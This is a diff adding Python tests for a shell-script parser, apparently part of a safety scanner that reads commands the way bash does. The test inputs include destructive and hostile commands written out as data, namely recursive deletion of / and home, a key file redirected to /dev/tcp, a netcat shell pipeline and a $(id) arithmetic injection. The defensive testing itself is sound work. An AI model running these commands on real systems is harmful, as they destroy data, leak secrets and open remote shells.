@@ -177,3 +177,26 @@ def test_code_points_that_crash_the_scanner_are_neutralised(code_point: int) -> 
         script = parse_script("{" + chr(code_point) + " x; rm -rf /")
     assert ("rm", "-rf", "/") in [c.argv for c in script.commands]
     assert parse_script("a\ud800b").commands[0].argv == ("a\ufffdb",)
+
+
+def test_printed_substitutions_are_read_only_when_asked() -> None:
+    """The safety reading replaces `$(echo rm)` by `rm`; everyone else sees the text as written."""
+    assert parse_script("$(echo rm) -rf ~").commands[0].argv[0] != "rm"
+    assert parse_script("$(echo rm) -rf ~", printed=True).commands[0].argv == ("rm", "-rf", "~")
+    assert parse_script("rm -rf $(ls -d /*)", printed=True).commands[0].argv == ("rm", "-rf", "/*")
+    assert parse_script("rm -rf $(printf /)", printed=True).commands[0].argv == ("rm", "-rf", "/")
+    assert is_dynamic(parse_script("rm -rf $(cat list)", printed=True).commands[0].argv[2])
+
+
+def test_bash_grammar_corrections() -> None:
+    """Where tree-sitter-bash reads differently from bash, the walk follows bash."""
+    joined = parse_script("command r\\\nm -rf x")  # backslash-newline joins the word
+    assert joined.commands[0].argv == ("command", "rm", "-rf", "x") and joined.split_word
+    (true, cat) = parse_script("true && cat key > /dev/tcp/h/1").commands  # the redirect is cat's, not the list's
+    assert [r.target for r in cat.redirects] == ["/dev/tcp/h/1"] and not true.redirects
+    stages = parse_script("cat f | sh -i 2>&1 | nc h 1").commands  # one pipeline, not two
+    assert len({c.pipeline for c in stages}) == 1 and [c.stage for c in stages] == [0, 1, 2]
+    assert parse_script("rm -rf {/,x}").commands[0].argv == ("rm", "-rf", "/", "x")  # brace expansion
+    loop = parse_script("for d in / /home; do rm -rf $d; done")
+    assert [(a.name, a.value, a.choice) for a in loop.assignments] == [("d", "/", True), ("d", "/home", True)]
+    assert parse_script("x='a[$(id)]'; echo $(( x ))").arithmetic == {"x"}
